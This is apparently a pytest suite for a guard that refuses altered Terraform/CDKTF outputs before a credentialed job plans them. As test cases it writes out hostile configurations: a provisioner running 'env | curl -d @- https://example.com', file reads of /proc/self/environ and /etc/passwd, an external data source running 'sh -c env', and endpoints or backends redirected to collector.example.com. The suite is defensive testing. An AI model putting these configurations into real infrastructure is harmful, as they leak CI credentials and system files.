"""A synthesized output handed to a job that holds credentials runs nothing but what residency writes."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from residency.errors import ViolationError
from residency.terraform.plan_time_code import refuse_plan_time_code
from tests.conftest import SAMPLE
from tests.guard.synthesized import synthesized

AWS_S3 = SAMPLE.read_text().replace("target: local", "target: aws") + "state: {backend: s3}\n"


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    local = tmp_path_factory.mktemp("local")
    aws = tmp_path_factory.mktemp("aws")
    return {"local": synthesized(local, SAMPLE.read_text())[1], "aws": synthesized(aws, AWS_S3)[1]}


def refusals(out: Path, *, emulated: bool) -> str:
    try:
        refuse_plan_time_code(out, emulated=emulated)
    except ViolationError as error:
        return error.message
    return ""


def edited(outputs: dict[str, Path], tmp_path: Path, target: str, edit: Callable[[dict[str, Any]], None],
           workspace: str = "eu-west-1") -> Path:
    out = tmp_path / "cdktf.out"
    shutil.copytree(outputs[target], out, symlinks=True)
    path = out / "stacks" / workspace / "cdk.tf.json"
    document = json.loads(path.read_text())
    edit(document)
    path.write_text(json.dumps(document))
    return out


def test_what_residency_synthesizes_passes_on_both_targets(outputs):
    assert refusals(outputs["local"], emulated=True) == ""
    assert refusals(outputs["aws"], emulated=False) == ""


def test_the_emulators_fake_keys_and_endpoints_are_refused_where_the_job_holds_real_credentials(outputs):
    found = refusals(outputs["local"], emulated=False)
    assert "`endpoints` in the aws provider" in found and "`access_key`" in found


CRAFTED: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    "another provider": (
        lambda d: d["terraform"]["required_providers"].update(external={"source": "hashicorp/external"}),
        "the provider `external`"),
    "a program run while planning": (
        lambda d: d.setdefault("data", {}).update(external={"x": {"program": ["sh", "-c", "env"]}}),
        "data source `external`"),
    "an S3 object read while planning": (
        lambda d: d.setdefault("data", {}).update(aws_s3_object={"x": {"bucket": "b", "key": "users.csv"}}),
        "data source `aws_s3_object`"),
    "a function invoked while planning": (
        lambda d: d.setdefault("data", {}).update(aws_lambda_invocation={"x": {"function_name": "f", "input": "{}"}}),
        "data source `aws_lambda_invocation`"),
    "a DynamoDB item read while planning": (
        lambda d: d.setdefault("data", {}).update(aws_dynamodb_table_item={"x": {"table_name": "t", "key": "{}"}}),
        "data source `aws_dynamodb_table_item`"),
    "the runner's environment read into an output": (
        lambda d: d.setdefault("output", {}).update(leak={"value": "${file(\"/proc/self/environ\")}"}),
        "the function `file`"),
    "a template read from anywhere": (
        lambda d: d.setdefault("output", {}).update(leak={"value": "${templatefile(\"/etc/passwd\", {})}"}),
        "the function `templatefile`"),
    "a module fetched from anywhere": (
        lambda d: d.update(module={"m": {"source": "git::https://example.com/m.git"}}),
        "a top-level `module` block"),
    "a provisioner": (
        lambda d: d["resource"]["aws_s3_bucket"][next(iter(d["resource"]["aws_s3_bucket"]))].update(
            provisioner=[{"local-exec": {"command": "env | curl -d @- https://example.com"}}]),
        "a provisioner"),
    "an assumed role in the provider": (
        lambda d: d["provider"]["aws"][0].update(assume_role=[{"role_arn": "arn:aws:iam::1:role/x"}]),
        "`assume_role` in the aws provider"),
    "an endpoint of the change's choosing": (
        lambda d: d["provider"]["aws"][0].update(endpoints=[{"s3": "https://collector.example.com"}]),
        "`endpoints` in the aws provider"),
    "a backend that sends state requests elsewhere": (
        lambda d: d["terraform"]["backend"]["s3"].update(endpoints={"s3": "https://collector.example.com"}),
        "`endpoints` in the s3 backend"),
    "another backend": (
        lambda d: d["terraform"].update(backend={"http": {"address": "https://collector.example.com"}}),
        "the state backend `http`"),
    "a Lambda package outside the workspace": (
        lambda d: d["resource"]["aws_lambda_function"][next(iter(d["resource"]["aws_lambda_function"]))].update(
            filename="/proc/self/environ"),
        "outside the workspace's synthesized files"),
    "an S3 object uploaded from a relative path that escapes": (
        lambda d: d["resource"].update(aws_s3_object={"x": {"bucket": "b", "key": "k", "source": "../../../../x"}}),
        "outside the workspace's synthesized files"),
}


@pytest.mark.parametrize("case", sorted(CRAFTED))
def test_a_crafted_output_is_refused_and_the_reason_named(outputs, tmp_path, case):
    edit, expected = CRAFTED[case]
    found = refusals(edited(outputs, tmp_path, "aws", edit), emulated=False)
    assert expected in found
    assert "eu-west-1:" in found


def test_an_emulator_endpoint_must_be_the_emulator_residency_starts(outputs, tmp_path):
    def elsewhere(document: dict[str, Any]) -> None:
        document["provider"]["aws"][0]["endpoints"][0]["s3"] = "https://collector.example.com"

    found = refusals(edited(outputs, tmp_path, "local", elsewhere), emulated=True)
    assert "`s3` endpoint is 'https://collector.example.com'" in found


def test_terraform_files_beside_the_synthesized_one_and_links_are_refused(outputs, tmp_path):
    out = tmp_path / "cdktf.out"
    shutil.copytree(outputs["aws"], out)
    workspace = out / "stacks" / "eu-west-1"
    (workspace / "extra.tf").write_text('data "external" "x" { program = ["env"] }\n')
    (workspace / "override.tf.json").write_text("{}")
    (workspace / "residency_moves.tf.json").write_text(json.dumps({"data": {"external": {}}}))
    (workspace / "assets" / "link.zip").symlink_to("/etc/passwd")
    found = refusals(out, emulated=False)
    for expected in ("stacks/eu-west-1/extra.tf: a Terraform file", "stacks/eu-west-1/override.tf.json",
                     "residency_moves.tf.json: holds more than `moved` blocks", "link.zip: a symbolic link"):
        assert expected in found
